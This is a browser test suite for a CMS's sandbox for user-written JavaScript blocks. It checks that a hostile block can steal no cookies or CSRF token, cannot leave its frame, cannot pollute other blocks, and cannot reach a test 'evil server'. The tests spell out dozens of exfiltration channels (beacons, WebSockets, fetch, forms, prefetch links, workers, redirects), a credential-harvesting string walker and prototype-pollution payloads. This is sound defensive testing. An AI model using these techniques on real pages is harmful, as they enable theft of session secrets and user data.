import { openScreen, serveAdmin } from '@mortise/testing/browser';
import { type EvilServer, startEvilServer } from './testing/evil-server';
import { blockFrame, outputOf, painting } from './testing/frames';
import { publishBlocks } from './testing/publish-blocks';

const { server, browser } = serveAdmin({ plugins: ['pages', 'js-blocks'] });

let evil: EvilServer;
beforeAll(async () => {
  evil = await startEvilServer();
});
afterAll(() => evil.close());

/** Every string that can be reached from `ctx` and the frame's own globals, and what each forbidden door answers. */
const SPY = painting(`
  const tried = {};
  const doors = {
    localStorage: () => localStorage.length, sessionStorage: () => sessionStorage.length, indexedDB: () => indexedDB.open('x'),
    caches: () => caches.keys(), parentDocument: () => parent.document.title, parentAddress: () => parent.location.href,
    topDocument: () => top.document.cookie, frameElement: () => frameElement.tagName, opener: () => opener.document,
    worker: () => navigator.serviceWorker.register('/sw.js'), siblings: () => parent.frames[1].document.title,
    shared: () => new SharedWorker('data:,'),
  };
  for (const [name, open] of Object.entries(doors)) {
    try { tried[name] = 'open: ' + String(await open()); } catch (error) { tried[name] = error.name; }
  }
  const eavesdropped = [];
  addEventListener('message', (event) => eavesdropped.push(String(event.data)));
  parent.postMessage({ kind: 'call', op: 'hello' }, '*');
  const boot = await ctx.api.request({ url: 'app:boot' }).catch((error) => error);
  const strings = new Set([document.cookie, document.referrer, new Error().stack, JSON.stringify(boot.data ?? boot.message), ...performance.getEntries().map((entry) => entry.name)]);
  const seen = new Set();
  const walk = (value, depth) => {
    if (typeof value === 'string') strings.add(value);
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value) || depth > 6 || seen.size > 20000) return;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) { try { walk(value[key], depth + 1); } catch {} }
  };
  walk(ctx, 0);
  walk(globalThis, 0);
  return { tried, eavesdropped, token: ctx.token === undefined, text: [...strings].join('\\n') };
`);

interface Spied {
  readonly tried: Readonly<Record<string, string>>;
  readonly eavesdropped: readonly string[];
  readonly token: boolean;
  readonly text: string;
}

describe('a hostile block', () => {
  it('learns no credential, whatever it looks at', async () => {
    const path = await publishBlocks(server, [{ code: SPY }, { code: `ctx.render('secret of another')` }]);
    const { page, context } = await openScreen(browser, server, { path });
    const { tried, eavesdropped, token, text } = await outputOf<Spied>(page);
    expect(Object.entries(tried).filter(([, answer]) => answer.startsWith('open'))).toEqual([]);
    expect({ eavesdropped, token }).toEqual({ eavesdropped: [], token: true });
    const boot = (await (await context.request.get(`${server.url}/api/app:boot`)).json()) as { data: { csrfToken: string } };
    const cookies = await context.cookies();
    expect(cookies.length).toBeGreaterThan(0);
    for (const secret of [boot.data.csrfToken, ...cookies.map(({ value }) => value)]) {
      expect(secret.length).toBeGreaterThan(10);
      expect(text).not.toContain(secret);
    }
  });

  it('sends nothing to anybody', async () => {
    const code = painting(`
      const to = '${evil.origin}';
      const tries = [
        () => new Image().src = to + '/image',
        () => { document.body.style.background = 'url(' + to + '/background)'; },
        () => { const style = document.createElement('style'); style.textContent = '@import "' + to + '/import"; @font-face { font-family: x; src: url(' + to + '/font) } body { font-family: x }'; document.head.append(style); },
        () => navigator.sendBeacon(to + '/beacon', 'x'),
        () => new WebSocket(to.replace('http', 'ws')),
        () => new EventSource(to + '/events'),
        () => new WebTransport(to.replace('http', 'https')),
        () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to.slice(7) }] }).createDataChannel('x'),
        () => fetch(to + '/fetch'),
        () => { const xhr = new XMLHttpRequest(); xhr.open('POST', to + '/xhr'); xhr.send('x'); },
        () => { const form = document.createElement('form'); form.action = to + '/form'; form.method = 'post'; document.body.append(form); form.submit(); },
        () => window.open(to + '/open'),
        () => { const link = document.createElement('a'); link.href = to + '/link'; link.target = '_blank'; link.ping = to + '/ping'; document.body.append(link); link.click(); },
        () => { top.location = to + '/top'; },
        () => document.body.insertAdjacentHTML('beforeend', '<video src="' + to + '/video"></video><object data="' + to + '/object"></object><embed src="' + to + '/embed"><svg><image href="' + to + '/svg"/></svg><iframe srcdoc="<img src=' + to + '/srcdoc>"></iframe>'),
        () => import(to + '/module.js'),
        () => { const script = document.createElement('script'); script.src = to + '/script.js'; document.head.append(script); },
        () => new Worker(URL.createObjectURL(new Blob(['try { importScripts("' + to + '/imported") } catch {} fetch("' + to + '/worker"); new WebSocket("' + to.replace('http', 'ws') + '")']))),
        () => { const frame = document.createElement('iframe'); document.body.append(frame); return new frame.contentWindow.RTCPeerConnection(); },
        ...['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'prerender', 'icon', 'manifest'].map((rel) => () => {
          const link = document.createElement('link'); link.rel = rel; link.href = to + '/' + rel; link.as = 'script'; document.head.append(link);
        }),
        () => { const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ urls: [to + '/speculation'] }] }); document.head.append(rules); },
      ];
      for (const attempt of tries) { try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 200))]); } catch {} }
      await new Promise((done) => setTimeout(done, 500));
      return tries.length;`);
    const path = await publishBlocks(server, [{ code }]);
    const { page } = await openScreen(browser, server, { path });
    await expect(outputOf<number>(page)).resolves.toBeGreaterThan(25);
    expect(page.url()).toBe(server.url + path);
    expect([evil.heard, evil.connections()]).toEqual([[], 0]);
  });

  it('sends nothing through frames of its own', async () => {
    const code = painting(`
      const to = '${evil.origin}';
      document.body.insertAdjacentHTML('beforeend', '<iframe src="' + to + '/frame"></iframe><frameset><frame src="' + to + '/set"></frameset>');
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow.location.href = to + '/later';
      const inner = document.createElement('iframe');
      inner.srcdoc = '<meta http-equiv="refresh" content="0;url=' + to + '/refresh"><form action="' + to + '/form"><input autofocus></form><script>document.forms[0].submit()</' + 'script>';
      document.body.append(inner);
      await new Promise((done) => setTimeout(done, 500));
      return 'tried';`);
    const path = await publishBlocks(server, [{ code }]);
    const { page } = await openScreen(browser, server, { path });
    await expect(outputOf(page)).resolves.toBe('tried');
    // Chromium opens a connection before it asks whether it may; nothing is sent over it.
    expect(evil.heard).toEqual([]);
  });

  it.each([
    ['by itself', `location.href = '${'ORIGIN'}/self?stolen'`],
    ['to a page of this server', `location.href = '/admin'`],
    [
      'by a refresh',
      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=ORIGIN/meta'; document.head.append(meta);`,
    ],
    ['back into its own document', 'location.reload()'],
  ])('is taken away when it leaves its document %s', async (_how, leave) => {
    const path = await publishBlocks(server, [
      { code: `ctx.render('here'); setTimeout(() => { ${leave.replace('ORIGIN', evil.origin)} }, 100);` },
      { code: `ctx.render('still here')` },
    ]);
    const { page } = await openScreen(browser, server, { path });
    await page.getByText('This block was stopped: its code tried to leave its frame.').waitFor();
    await blockFrame(page, 0).getByText('still here').waitFor();
    expect(evil.heard).toEqual([]);
  });

  it('changes nothing of another block or of the page', async () => {
    const spoil = `
      Object.prototype.polluted = 'yes'; Array.prototype.with = () => 'spoiled'; window.define = Object.assign(() => 'mine', { amd: 'mine' });
      const style = document.createElement('style'); style.textContent = '* { color: rgb(1, 2, 3) !important; display: none }'; document.head.append(style);
      JSON.stringify = () => 'spoiled'; ctx.message = null; document.title = 'Spoiled';`;
    const look = painting(`
      await new Promise((done) => setTimeout(done, 300));
      return [{}.polluted ?? 'clean', [1].with(0, 2)[0], typeof define, getComputedStyle(document.body).color !== 'rgb(1, 2, 3)', typeof ctx.message.info];`);
    const path = await publishBlocks(server, [{ code: spoil }, { code: look }]);
    const { page } = await openScreen(browser, server, { path });
    await expect(outputOf(page, 1)).resolves.toEqual(['clean', 2, 'undefined', true, 'function']);
    expect(await page.evaluate('[{}.polluted, document.title.includes("Spoiled")]')).toEqual([undefined, false]);
  });
});
